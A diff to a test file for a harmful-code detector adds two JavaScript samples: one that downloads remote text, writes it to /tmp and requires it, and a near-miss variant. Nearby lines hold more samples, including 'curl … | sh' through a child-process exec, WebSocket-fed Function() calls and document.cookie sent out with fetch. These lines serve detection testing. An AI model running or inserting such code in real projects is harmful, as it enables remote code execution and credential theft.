@@ -47,6 +47,7 @@ def rules_at(source: str) -> set[tuple[str, str]]:
         ]),
         ("C3", "high", [
             "const s = new WebSocket('wss://example.invalid'); s.onmessage = e => Function(e.data)()",
+            "fetch(x).then(r => r.text()).then(t => { require('fs').writeFileSync('/tmp/p', t); require('/tmp/p') })",
             f"fetch('https://example.invalid').then(r => r.text()).then(t => {WORKER}(t, {{eval: !0}}))",
             f"{WORKER}(`{CP}.exec('curl https://example.invalid | sh')`, {{eval: true}})",
         ]),
@@ -136,6 +137,7 @@ def test_what_harms_is_found_however_it_is_written(rule: str, severity: str, sou
         "fetch('/x', {headers: {cookie: document.cookie}}); a.src = b; document.cookie = c",
         "const c = n => document.cookie.split(n); fetch('/x?t=' + c('t'), {body: c('u')}); new Image().src = c('t')",
         "const p = require('./package.json'); function f() { return g(process.env.X) } eval(f()); log(p.version)",
+        "fetch(x).then(r => r.text()).then(t => { require('fs').writeFileSync('a.js', t); require('b.js') })",
         f"{WORKER}('eval(atob(x))', {{eval: false}}); s.onmessage = e => f(e); s.x = () => 1",
         r"const gr\u00fcn = '\u0065val'; grün(/^[\u0041-\u005a]/)",
     ],
